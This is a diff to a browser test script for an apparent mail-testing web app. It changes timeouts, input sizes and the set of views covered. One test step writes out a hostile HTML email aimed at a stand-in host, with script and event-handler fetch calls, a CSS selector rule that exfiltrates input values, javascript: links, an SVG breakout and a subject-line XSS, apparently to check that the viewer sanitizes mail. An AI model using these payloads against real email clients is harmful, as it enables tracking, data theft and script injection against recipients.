@@ -15,7 +15,7 @@ const run = promisify(execFile);
 const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
 const browser = await chromium.launch({ executablePath: process.env.CHROMIUM, args: ["--no-sandbox", "--disable-background-networking"] });
 const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, acceptDownloads: true });
-context.setDefaultTimeout(30_000);
+context.setDefaultTimeout(60_000);
 const page = await context.newPage();
 const complaints = [];
 page.on("console", (m) => { if (m.type() === "error" && !m.location().url.includes("/frame/")) complaints.push(m.text()); });
@@ -159,7 +159,7 @@ const steps = {
     const e = `http://${stranger}`;
     const html = `<html><head><meta http-equiv="refresh" content="0;url=${e}/refresh"><base href="${e}/base/"><link rel="stylesheet" href="${e}/css"><link rel="preconnect" href="${e}"><link rel="dns-prefetch" href="${e}"><link rel="prefetch" href="${e}/prefetch"><link rel="preload" as="image" href="${e}/preload"><link rel="icon" href="${e}/icon"><script src="${e}/script"></script><script>fetch("${e}/inline");top.document.title="PWNED"</script>
 <style>@import "${e}/import";@font-face{font-family:x;src:url(${e}/font)}body{background:url(${e}/bg);font-family:x}input[value^="a"]{background:url(${e}/exfil)}</style></head><body onload="fetch('${e}/onload')">text<img src="${e}/img"><img src=x onerror="fetch('${e}/onerror')"><img srcset="${e}/srcset 1x"><picture><source srcset="${e}/picture"><img></picture><video src="${e}/video" poster="${e}/poster" autoplay></video><iframe src="${e}/iframe"></iframe><object data="${e}/object"></object><embed src="${e}/embed"><svg onload="fetch('${e}/svg')"><image href="${e}/svgimage"/><style><p><iframe src="${e}/breakout"></iframe></style></svg><form action="${e}/form" id=f><input value="abc" autofocus onfocus="f.submit()"></form><a id=a href="javascript:fetch('${e}/js')" autofocus>x</a><a href="${e}/ping" ping="${e}/p">y</a><div style="background-image:url(${e}/style)"></div><table background="${e}/tbl"><tr><td>z</table><noscript><iframe src="${e}/noscript"></iframe></noscript><template shadowrootmode="open"><img src="${e}/shadow"><iframe src="${e}/shadowframe"></iframe></template></body></html>`;
-    for (const [subject, content] of [["hostile", html], ["huge", html + "<p>".repeat(300_000) + "x"], ["deep", "<div>".repeat(50_000) + html]]) {
+    for (const [subject, content] of [["hostile", html], ["huge", html + "<p>".repeat(20_000) + "x"], ["deep", "<div>".repeat(5_000) + html]]) {
       const raw = `From: evil@example.test\r\nTo: alice@example.test\r\nSubject: ${subject}<script>top.document.title="PWNED"</script>\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${content}\r\n`;
       const sent = await (await fetch(base + "/api/v1/mail?from=evil@example.test&to=alice@example.test", { method: "POST", headers: { "Content-Type": "message/rfc822" }, body: raw })).json();
       const id = sent.messages[0].id;
@@ -181,7 +181,7 @@ const steps = {
     const session = (await (await fetch(base + "/api/v1/sessions?match=login:ok")).json()).sessions[0].id;
     const faults = [];
     for (const viewport of [{ width: 1280, height: 800 }, { width: 390, height: 844 }]) {
-      for (const colorScheme of ["light", "dark"]) {
+      for (const colorScheme of viewport.width > 400 ? ["light", "dark"] : ["light"]) {
         await page.setViewportSize(viewport);
         await page.emulateMedia({ colorScheme, reducedMotion: "reduce" });
         for (const path of VIEWS(message, session)) {
@@ -200,7 +200,7 @@ const steps = {
   },
 };
 
-const VIEWS = (message, session) => ["/", "/sessions", `/sessions/${session}`, "/mail", `/m/${message}`, `/m/${message}/headers`, `/m/${message}/journey`, "/scenarios", "/scenarios?group=smtp", "/scenarios/greylisting", "/scenarios/new"];
+const VIEWS = (message, session) => ["/", "/sessions", `/sessions/${session}`, "/mail", `/m/${message}`, `/m/${message}/headers`, `/m/${message}/journey`, "/scenarios", "/scenarios?group=smtp", "/scenarios/greylisting", "/scenarios/new", "/setup"];
 
 let failed = 0;
 for (const [name, step] of Object.entries(steps)) {
